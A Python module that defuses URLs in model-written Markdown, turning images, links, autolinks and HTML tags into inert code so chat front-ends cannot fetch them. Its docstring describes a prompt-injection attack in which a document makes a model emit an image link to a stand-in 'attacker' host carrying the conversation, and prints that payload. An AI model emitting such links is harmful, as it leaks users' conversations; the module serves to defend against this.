"""URLs a model wrote, made inert: never an image a page fetches, never a link it follows.

A document can tell a model to write `![status](https://attacker/p.png?q=<the conversation>)`:
a chat front-end that renders the answer fetches the image and sends the conversation away, with
no click (the classic exfiltration of retrieval-augmented chats; garak's web_injection probes).
A link is the same with one click. So every URL in a model's text is shown as code, which no
Markdown renderer turns into an image or a link, and which still reads (and copies) as written:

- `![alt](src)`  →  alt `src`
- `[text](href)` →  text `href`
- `<https://x>` and a bare `https://x`, `www.x.org` → `https://x` as a code span
- a link reference definition (`[1]: https://x`) loses its power: its bracket is escaped
- an HTML tag (`<img …>`, `<a …>`, `<iframe …>`) → its `<` as `&lt;`, shown as text

Code blocks and code spans are left as they are (already inert). Applied where a model's text
enters the product (generation/kit.py, streaming included), so the chat page, the HTTP API, the
OpenAI-compatible endpoint, the CLI and saved conversations all carry the inert form; the
verifier reads it the same (quotation keys drop backticks).
"""

from __future__ import annotations

import re

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})", re.M)
_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", re.S)
# "[label](destination "title")": the destination may hold one level of balanced brackets
_LINK = re.compile(r"\[([^\[\]\n]*)\]\(\s*<?([^()\s<>]*(?:\([^()\s]*\)[^()\s<>]*)*)>?"
                   r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)")
_IMAGE = re.compile("!" + _LINK.pattern)
_AUTOLINK = re.compile(r"<((?:[a-zA-Z][a-zA-Z0-9+.-]{1,31}):[^\s<>]*|[^\s<>@]+@[^\s<>@]+\.[^\s<>@]+)>")
BARE_URL = _BARE = re.compile(r"(?<![\w`/@.])((?:https?|ftp|file|data|javascript|mailto):[^\s<>`\"')\]]+|www\.[a-zA-Z0-9-]+\.[^\s<>`\"')\]]+)",
                   re.I)
# only a definition with a destination that is a URL ("[1]: The kettle …" is a citation, not one)
_REF_DEF = re.compile(r"^( {0,3})\[([^\]\n]+)\]:(?=[ \t]*`*<?(?:[a-zA-Z][a-zA-Z0-9+.-]{1,31}:|www\.|/))", re.M)
_HTML_TAG = re.compile(r"<(?=/?[a-zA-Z][a-zA-Z0-9-]*[\s/>]|!--)")
_TRAILING_PUNCT = ".,;:!?"


def _code(url: str) -> str:
    url = url.strip()
    tail = ""
    while url and url[-1] in _TRAILING_PUNCT:  # "see https://x.org." : the full stop is prose
        tail = url[-1] + tail
        url = url[:-1]
    if not url:
        return tail
    tick = "`" * (max((len(m) for m in re.findall(r"`+", url)), default=0) + 1)
    return f"{tick}{url}{tick}{tail}"


def _prose(text: str) -> str:
    def inert(m: re.Match) -> str:  # an image's alt text or a link's label, then its URL as code
        label, url = m.group(1).strip(), m.group(2)
        return " ".join(x for x in (label, _code(url) if url else "") if x)

    text = _IMAGE.sub(inert, text)
    text = _LINK.sub(inert, text)
    text = _AUTOLINK.sub(lambda m: _code(m.group(1)), text)
    # bare URLs, outside the code spans the steps above made
    parts = re.split(r"(`+[^`]*`+)", text)
    parts = [p if i % 2 else _BARE.sub(lambda m: _code(m.group(1)), p) for i, p in enumerate(parts)]
    text = "".join(parts)
    text = _REF_DEF.sub(lambda m: f"{m.group(1)}\\[{m.group(2)}]:", text)
    return _HTML_TAG.sub("&lt;", text)


def defuse_urls(text: str, in_fence: bool = False) -> str:
    """`text` (Markdown a model wrote) with every URL inert (module docstring). `in_fence`: the
    text continues inside a code block opened before it (a stream's next piece)."""
    out = []
    pos, fence = 0, ("```" if in_fence else "")
    for m in _FENCE.finditer(text):
        mark = m.group(1)
        if fence:
            if mark[0] == fence[0] and len(mark) >= len(fence):
                out.append(text[pos:m.end()])  # the code block, as it is
                pos, fence = m.end(), ""
        else:
            out.append(_spans(text[pos:m.start()]))
            pos, fence = m.start(), mark
    out.append(text[pos:] if fence else _spans(text[pos:]))
    return "".join(out)


def _spans(text: str) -> str:
    out, pos = [], 0
    for m in _CODE_SPAN.finditer(text):
        out += [_prose(text[pos:m.start()]), m.group(0)]
        pos = m.end()
    out.append(_prose(text[pos:]))
    return "".join(out)


def stream_cut(text: str) -> int:
    """How much of a text still streaming in can be made inert now: up to its last whitespace
    (a URL may still be growing after it), and before any `[` or `<` whose link or tag has not
    closed yet. What lies before the cut is made inert the same way whatever follows it."""
    cut = max(text.rfind(" "), text.rfind("\n"), text.rfind("\t")) + 1
    for m in re.finditer(r"!?\[|<", text[:cut]):
        rest = text[m.end():]
        if m.group().endswith("["):
            close = rest.find("]")
            after = rest[close + 1:close + 2] if close >= 0 else ""
            if close < 0 or after == "" or (after == "(" and ")" not in rest[close + 2:]):
                return m.start()  # "[text" or "[text]" or "[text](url": a link may still form
        elif ">" not in rest and re.match(r"[a-zA-Z/!]", rest):
            return m.start()  # "<img src=…" still coming
    return cut


def defuse_prefix(text: str) -> str:
    """The part of a streaming text that is safe to show now, made inert (stream_cut)."""
    return defuse_urls(text[:stream_cut(text)])


def has_live_url(markdown: str) -> bool:
    """Whether a CommonMark + GFM renderer would turn some of `markdown` into an image or a link
    (or raw HTML): the check of the benchmark and the tests, by rendering with markdown-it and
    looking for URLs outside code (GFM's autolinks are looked for in the text, as linkify does)."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
    for tok in tokens:
        for t in [tok, *(tok.children or [])]:
            if t.type in ("image", "link_open", "html_inline", "html_block"):
                return True
            if t.type == "text" and _BARE.search(t.content):
                return True
    return False
